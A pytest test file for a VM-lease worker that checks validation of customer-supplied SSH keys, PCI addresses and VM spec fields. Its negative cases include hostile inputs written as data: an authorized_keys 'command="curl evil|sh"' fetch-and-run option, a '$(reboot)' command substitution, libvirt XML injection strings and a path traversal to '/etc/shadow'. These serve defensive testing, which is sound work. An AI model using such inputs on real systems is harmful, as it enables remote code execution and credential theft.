"""Strict checks on what a customer supplies for a VM lease: SSH key, PCI addresses, names."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from byteleap.worker.vm import BadVmSpecError, PciAddress, check_ssh_public_key
from worker.vm.vm_fixtures import ecdsa_key, ed25519_key, rsa_key, vm_spec


@pytest.mark.parametrize("make", [ed25519_key, ecdsa_key, lambda: rsa_key(3072)])
def test_real_keys_of_known_types_pass(make: Any) -> None:
    key = make()
    assert check_ssh_public_key(key) == key


def test_a_key_without_comment_passes() -> None:
    key = ed25519_key(comment=None)
    assert check_ssh_public_key(key) == key


def _with(key: str, f: Any) -> str:
    return str(f(key))


GOOD = ed25519_key()
KIND, BLOB, COMMENT = GOOD.split(" ")


@pytest.mark.parametrize(
    ("key", "why"),
    [
        (f"{GOOD}\nssh-ed25519 {BLOB} mallory", "one plain line"),
        (f"{GOOD}\r", "one plain line"),
        (f'command="curl evil|sh" {GOOD}', "plain line"),
        (f"no-pty {GOOD}", "without options"),
        (f"{KIND} {BLOB} it's", "one plain line"),
        (f"{KIND} {BLOB} $(reboot)", "one plain line"),
        (f"{KIND} {BLOB} a b", "without options"),
        (f"{KIND}  {BLOB}", "without options"),
        (f"ssh-dss {BLOB}", "not one of"),
        (f"{KIND} {BLOB[:-8]}", "does not parse"),
        (f"{KIND} not*base64", "not base64"),
        (f"ecdsa-sha2-nistp256 {BLOB}", "does not parse"),  # the blob names another type
        (rsa_key(1024), "at least 2048"),
        (f"{KIND} {BLOB} {'x' * 5000}", "too long"),
        ("", "without options"),
    ],
)
def test_bad_keys_are_refused(key: str, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        check_ssh_public_key(key)


@pytest.mark.parametrize(
    ("text", "attrs"),
    [
        ("0000:41:00.0", {"domain": "0x0000", "bus": "0x41", "slot": "0x00", "function": "0x0"}),
        ("0001:C1:1f.7", {"domain": "0x0001", "bus": "0xc1", "slot": "0x1f", "function": "0x7"}),
    ],
)
def test_pci_addresses_parse_to_libvirt_attributes(text: str, attrs: dict[str, str]) -> None:
    address = PciAddress.parse(text)
    assert address.xml_attributes() == attrs
    assert str(address) == text.lower()


@pytest.mark.parametrize(
    "text",
    ["41:00.0", "0000:41:00", "0000:41:20.0", "0000:41:00.8", "0000:4g:00.0", "0000:41:00.0 ", ""],
)
def test_bad_pci_addresses_are_refused(text: str) -> None:
    with pytest.raises(ValueError):
        PciAddress.parse(text)


@given(st.integers(0, 0xFFFF), st.integers(0, 0xFF), st.integers(0, 0x1F), st.integers(0, 7))
def test_pci_addresses_round_trip(domain: int, bus: int, slot: int, function: int) -> None:
    address = PciAddress(domain=domain, bus=bus, slot=slot, function=function)
    assert PciAddress.parse(str(address)) == address


@pytest.mark.parametrize(
    "overrides",
    [
        {"name": "Lease_7"},
        {"name": "lease-7</name><graphics type='vnc'/>"},
        {"name": "-lease"},
        {"gpus": ["0000:41:00.0", "0000:41:00.0"]},
        {"gpus": ["0000:41:00.0'/><graphics type='vnc'/>"]},
        {"ssh_public_key": "ssh-ed25519 AAAA"},
        {"username": "root\nx"},
        {"overlay": "relative.qcow2"},
        {"overlay": "/var/lib/../../etc/shadow"},
        {"seed": "/tmp/base.qcow2", "base_image": "/tmp/base.qcow2"},
        {"network": "default' type='direct"},
        {"vcpus": 0},
        {"memory_mib": 16},
        {"lease_id": "a/b"},
        {"graphics": "vnc"},
    ],
)
def test_bad_specs_are_refused(tmp_path: Path, overrides: dict[str, Any]) -> None:
    with pytest.raises(BadVmSpecError):
        vm_spec(tmp_path, **overrides)


def test_gpus_are_kept_in_canonical_form(tmp_path: Path) -> None:
    spec = vm_spec(tmp_path, gpus=["0000:C1:00.0"])
    assert spec.gpus == ["0000:c1:00.0"]
